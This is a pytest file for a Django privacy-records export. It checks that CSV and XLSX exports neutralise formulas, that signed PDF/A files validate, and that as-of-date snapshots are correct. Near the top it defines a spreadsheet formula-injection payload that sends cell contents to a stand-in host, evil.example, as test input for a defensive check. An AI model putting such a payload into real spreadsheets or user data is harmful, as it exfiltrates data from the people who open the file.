"""The record as documents: CSV and XLSX that run nothing in a spreadsheet, a signed PDF/A in
the organisation's language, each as it stood before and after a change."""

import csv
import datetime
import io
import json
import subprocess
import sys
import zipfile
from pathlib import Path

import pikepdf
import pypdf
import pytest
import time_machine
from django.core.management import CommandError, call_command
from django.utils import translation
from openpyxl import load_workbook

from evidence.signing import certificate_trust_roots, validate_pdf
from jobs.models import Job
from processing import services
from processing.exports import COLUMNS, RECORDS_FILENAME, ropa_export, sheet_titles
from tests.consents.factories import PurposeFactory
from tests.processing.factories import activity, processor_record

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"clic")'


@pytest.fixture
def record(org, dpo):
    """On 10 Feb 2026 an activity with a retention of 12 months (its name a formula, a recipient
    starting with @); on 15 Mar the retention becomes 6 months."""
    with time_machine.travel("2026-02-10 10:00 +01:00", tick=False):
        purpose = PurposeFactory(organisation=org, code="citas", name="Citas")
        made = activity(
            org,
            user=dpo,
            name=EVIL,
            reference="T-01",
            purposes=[{"purpose": purpose, "legal_basis": "consent", "art9_condition": "h"}],
            recipients=[
                {"name": "@Meta Platforms, Inc.", "kind": "sub_processor", "third_country": True}
            ],
            data_categories=["contact", "health"],
            retention="12 meses",
        )
        processor_record(org, user=dpo)
    with time_machine.travel("2026-03-15 10:00 +01:00", tick=False):
        services.activity_update(activity=made, data={"retention": "6 meses"}, user=dpo)
    return made


def _csv_rows(content: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def test_the_csv_has_one_row_per_activity_and_no_cell_starts_a_formula(org, record):
    with time_machine.travel("2026-04-01 10:00 +02:00", tick=False):
        rows = _csv_rows(ropa_export(organisation=org, file_format="csv"))

    (row,) = rows
    assert list(row) == [key for key, _heading, _value in COLUMNS]
    assert row["name"] == "'" + EVIL
    assert row["recipients"].startswith("'@Meta")
    assert row["reference"] == "T-01" and row["retention"] == "6 meses"
    assert "Citas (citas)" in row["purposes"]
    assert all(not value.startswith(("=", "+", "-", "@")) for value in row.values())


def test_the_csv_as_of_before_the_change_shows_the_old_retention(org, record):
    before = _csv_rows(
        ropa_export(organisation=org, file_format="csv", as_of=datetime.date(2026, 3, 1))
    )
    after = _csv_rows(
        ropa_export(organisation=org, file_format="csv", as_of=datetime.date(2026, 3, 20))
    )
    earlier = _csv_rows(
        ropa_export(organisation=org, file_format="csv", as_of=datetime.date(2026, 1, 1))
    )

    assert [r["retention"] for r in before] == ["12 meses"]
    assert [r["retention"] for r in after] == ["6 meses"]
    assert earlier == []


def test_the_spreadsheet_has_the_sheets_and_holds_text_never_formulas(org, record):
    content = ropa_export(organisation=org, file_format="xlsx", language="en")

    book = load_workbook(io.BytesIO(content))
    with translation.override("en"):
        assert book.sheetnames == sheet_titles()
    assert len(book.sheetnames) == 9
    activities = book[book.sheetnames[1]]
    header = [c.value for c in activities[1]]
    assert header[:2] == ["Reference", "Activity"]
    assert activities.cell(row=2, column=2).value == EVIL
    assert activities.cell(row=2, column=2).data_type == "s"
    purposes = book[book.sheetnames[2]]
    assert [c.value for c in purposes[2]][:5] == [
        "T-01",
        EVIL,
        "citas",
        "Citas",
        "Consent (Art. 6(1)(a))",
    ]
    data = book[book.sheetnames[4]]
    assert {(r[2].value, r[3].value) for r in data.iter_rows(min_row=2)} >= {("Health data", "yes")}
    transfers = book[book.sheetnames[6]]
    assert transfers.cell(row=2, column=3).value == "Estados Unidos"
    processors = book[book.sheetnames[8]]
    assert processors.cell(row=2, column=3).value == "Clínica Dental Norte S.L."
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            assert all(cell.data_type != "f" for cell in row)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        xml = b"".join(archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets"))
    assert b"<f>" not in xml and b"<f " not in xml


def test_the_spreadsheet_in_arabic_reads_right_to_left(org, record):
    book = load_workbook(
        io.BytesIO(ropa_export(organisation=org, file_format="xlsx", language="ar"))
    )

    assert all(sheet.sheet_view.rightToLeft for sheet in book.worksheets)
    with translation.override("ar"):
        assert book.sheetnames == sheet_titles()


def _text(pdf: bytes) -> str:
    return "".join(page.extract_text() for page in pypdf.PdfReader(io.BytesIO(pdf)).pages)


def _attachment(pdf: bytes, name: str) -> bytes:
    with pikepdf.open(io.BytesIO(pdf)) as document:
        return document.attachments[name].get_file().read_bytes()


@pytest.mark.parametrize("language", ["es", "ar"])
def test_the_pdf_is_signed_and_reads_back_in_the_organisation_language(org, record, language):
    org.default_language = language
    org.save()

    pdf = ropa_export(organisation=org, file_format="pdf", as_of=datetime.date(2026, 3, 1))

    report = validate_pdf(pdf=pdf, trust_roots=certificate_trust_roots(org))
    assert report.signed and report.intact and report.valid and report.trusted
    assert report.coverage_entire_file
    text = _text(pdf)
    assert "12 meses" in text and "6 meses" not in text
    assert org.legal_name in text and "Citas" in text
    assert "Estados Unidos" in text
    with translation.override(language):
        from django.utils.translation import gettext as _

        for heading in (
            _("Record of processing activities"),
            _("Recipients"),
            _("Time limits for erasure"),
        ):
            assert heading in text
    with pikepdf.open(io.BytesIO(pdf)) as document:
        assert document.Root.Lang == language
        assert "pdfaid" in str(document.open_metadata())
    records = json.loads(_attachment(pdf, RECORDS_FILENAME))
    assert records["as_of"].startswith("2026-03-01T23:59:59")
    assert [a["retention"] for a in records["activities"]] == ["12 meses"]
    assert records["activities"][0]["purposes"][0]["art9_condition"] == "h"


def test_a_changed_byte_breaks_the_signature(org, record):
    pdf = bytearray(ropa_export(organisation=org, file_format="pdf"))
    pdf[len(pdf) // 3] ^= 0x01

    report = validate_pdf(pdf=bytes(pdf), trust_roots=certificate_trust_roots(org))
    assert not (report.intact and report.valid)


def test_the_pdf_says_what_it_covers_and_names_retired_activities(org, record, dpo):
    gone = activity(org, user=dpo, name="Antigua campaña")
    services.activity_retire(activity=gone, user=dpo)

    text = " ".join(_text(ropa_export(organisation=org, file_format="pdf", language="en")).split())

    assert "as entered in Constancia" in text
    assert "Activities retired by then are not part of it: Antigua campaña" in text
    assert "(a)" in text and "(g)" in text


def test_the_public_pyhanko_and_pdfsig_commands_accept_the_signature(org, record, tmp_path):
    pyhanko = Path(sys.executable).parent / "pyhanko"
    if not pyhanko.exists():
        pytest.skip("pyhanko-cli is not installed")
    (tmp_path / "ropa.pdf").write_bytes(ropa_export(organisation=org, file_format="pdf"))
    (tmp_path / "signer.pem").write_text(certificate_trust_roots(org)[0])

    result = subprocess.run(
        [str(pyhanko), "sign", "validate", "--trust", "signer.pem", "--trust-replace", "ropa.pdf"],
        cwd=tmp_path,
        capture_output=True,
        text=True,
    )
    assert result.returncode == 0, result.stdout + result.stderr
    assert "INTACT:TRUSTED" in result.stdout
    pdfsig = subprocess.run(["pdfsig", "ropa.pdf"], cwd=tmp_path, capture_output=True, text=True)
    assert "Signature is Valid" in pdfsig.stdout


@pytest.mark.parametrize("file_format", ["csv", "xlsx", "pdf"])
def test_the_command_writes_each_format_as_of_a_date(org, record, tmp_path, file_format):
    out = tmp_path / f"ropa.{file_format}"

    call_command(
        "export_ropa",
        "--org",
        org.slug,
        "--format",
        file_format,
        "--as-of",
        "2026-03-01",
        "-o",
        str(out),
        stdout=io.StringIO(),
    )

    content = out.read_bytes()
    if file_format == "csv":
        assert [r["retention"] for r in _csv_rows(content)] == ["12 meses"]
    elif file_format == "xlsx":
        assert len(load_workbook(io.BytesIO(content)).sheetnames) == 9
    else:
        assert "12 meses" in _text(content)
    job = Job.objects.get(kind="ropa")
    assert job.status == Job.Status.DONE and job.parameters["as_of"] == "2026-03-01"
    assert job.result_name == f"ropa-{org.slug}-20260301.{file_format}"


def test_the_command_refuses_a_bad_date_and_an_unknown_organisation(org, tmp_path):
    with pytest.raises(CommandError, match="not a date"):
        call_command(
            "export_ropa",
            "--org",
            org.slug,
            "--format",
            "csv",
            "--as-of",
            "1 March",
            "-o",
            str(tmp_path / "x.csv"),
        )
    with pytest.raises(CommandError, match="No organisation"):
        call_command("export_ropa", "--org", "nope", "--format", "csv", "-o", str(tmp_path / "x"))
